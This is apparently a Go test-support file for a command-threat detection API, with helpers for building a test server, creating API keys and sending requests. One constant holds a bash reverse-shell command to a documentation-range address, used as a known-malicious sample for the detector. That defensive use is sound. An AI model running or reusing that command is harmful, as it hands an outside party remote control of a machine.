package api

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vigilsec/vigil/internal/command"
	"github.com/vigilsec/vigil/internal/command/detect"
	"github.com/vigilsec/vigil/internal/command/rules"
	"github.com/vigilsec/vigil/internal/config"
	"github.com/vigilsec/vigil/internal/deobfuscate"
	"github.com/vigilsec/vigil/internal/store"
	"github.com/vigilsec/vigil/models"
)

// Commands with known verdicts under the shipped models.
const (
	maliciousCmd  = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
	suspiciousCmd = "nmap -sn 10.0.0.0/24"
	benignCmd     = "ls -la /tmp"
)

var shared struct {
	once sync.Once
	det  *detect.Detector
	err  error
}

// loadDetector builds the real detector from the embedded models, once
// per test binary (it is safe for concurrent use).
func loadDetector() (*detect.Detector, error) {
	shared.once.Do(func() {
		eng, err := rules.Load(true)
		if err != nil {
			shared.err = err
			return
		}
		m, err := detect.LoadModels(models.FS)
		if err != nil {
			shared.err = err
			return
		}
		o := detect.DefaultOptions()
		o.Thresholds = m.Thresholds
		shared.det, shared.err = detect.New(command.NewAnalyzer(eng, deobfuscate.DefaultLimits()), m, o)
	})
	return shared.det, shared.err
}

// env is a running server on a real SQLite store with two keys.
type env struct {
	t          testing.TB
	srv        *Server
	http       *httptest.Server
	st         store.Store
	admin, scn string // secrets: scopes admin and scan
	scanKey    store.Key
}

// testConfig is the default server configuration for tests.
func testConfig(t testing.TB) config.Server {
	c := config.DefaultServer()
	c.DataDir = t.TempDir()
	c.UsageFlush = 50 * time.Millisecond
	return c
}

// newEnv starts a ready server; edit changes its configuration.
func newEnv(t *testing.T, edit ...func(*config.Server)) *env {
	t.Helper()
	e := newUnreadyEnv(t, edit...)
	if err := e.srv.Load(loadDetector); err != nil {
		t.Fatal(err)
	}
	return e
}

// newUnreadyEnv starts a server whose models are not loaded.
func newUnreadyEnv(t *testing.T, edit ...func(*config.Server)) *env {
	t.Helper()
	cfg := testConfig(t)
	for _, f := range edit {
		f(&cfg)
	}
	return newUnreadyEnvWith(t, cfg)
}

// newUnreadyEnvWith starts an unready server with this configuration on a
// SQLite store.
func newUnreadyEnvWith(t testing.TB, cfg config.Server) *env {
	t.Helper()
	st, err := store.Open(context.Background(), cfg.DatabaseURL, cfg.DataDir)
	if err != nil {
		t.Fatal(err)
	}
	return startEnv(t, cfg, st)
}

func startEnv(t testing.TB, cfg config.Server, st store.Store) *env {
	t.Helper()
	srv, err := New(context.Background(), Options{Config: cfg, Store: st, Logger: testLogger(t), Version: "test"})
	if err != nil {
		t.Fatal(err)
	}
	e := &env{t: t, srv: srv, http: httptest.NewServer(srv.Handler()), st: st}
	t.Cleanup(func() {
		e.http.Close()
		srv.Close(context.Background())
		st.Close()
	})
	_, e.admin = e.key("admin", 0, store.ScopeAdmin)
	e.scanKey, e.scn = e.key("scanner", 0, store.ScopeScan)
	return e
}

func testLogger(t testing.TB) *slog.Logger {
	return slog.New(slog.NewTextHandler(testWriter{t}, &slog.HandlerOptions{Level: slog.LevelWarn}))
}

type testWriter struct{ t testing.TB }

func (w testWriter) Write(p []byte) (int, error) {
	w.t.Log(strings.TrimSpace(string(p)))
	return len(p), nil
}

// key creates an API key.
func (e *env) key(name string, rate int, scopes ...string) (store.Key, string) {
	e.t.Helper()
	k, secret, err := e.st.CreateKey(context.Background(), store.NewKey{Name: name, Scopes: scopes, RateLimit: rate})
	if err != nil {
		e.t.Fatal(err)
	}
	return k, secret
}

// response is an answered request.
type response struct {
	status int
	header http.Header
	body   []byte
}

// do sends a request with the key as a Bearer token ("" for none) and a
// body (a string is sent as it is, anything else as JSON).
func (e *env) do(method, path, key string, body any) response {
	e.t.Helper()
	var rd io.Reader
	switch b := body.(type) {
	case nil:
	case string:
		rd = strings.NewReader(b)
	default:
		j, _ := json.Marshal(b)
		rd = bytes.NewReader(j)
	}
	req, err := http.NewRequest(method, e.http.URL+path, rd)
	if err != nil {
		e.t.Fatal(err)
	}
	if key != "" {
		req.Header.Set("Authorization", "Bearer "+key)
	}
	res, err := e.http.Client().Do(req)
	if err != nil {
		e.t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return response{res.StatusCode, res.Header, b}
}

// decode unmarshals the body or fails the test.
func (r response) decode(t testing.TB, v any) {
	t.Helper()
	if err := json.Unmarshal(r.body, v); err != nil {
		t.Fatalf("status %d, body %s: %v", r.status, r.body, err)
	}
}

// problem decodes a problem+json body, checking its media type.
func (r response) problem(t testing.TB) Problem {
	t.Helper()
	if ct := r.header.Get("Content-Type"); ct != "application/problem+json" {
		t.Fatalf("status %d with Content-Type %q, want application/problem+json: %s", r.status, ct, r.body)
	}
	var p Problem
	r.decode(t, &p)
	return p
}

// eventually polls cond until it holds or 5 s pass.
func eventually(t testing.TB, what string, cond func() bool) {
	t.Helper()
	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		if cond() {
			return
		}
	}
	t.Fatalf("timed out waiting for %s", what)
}
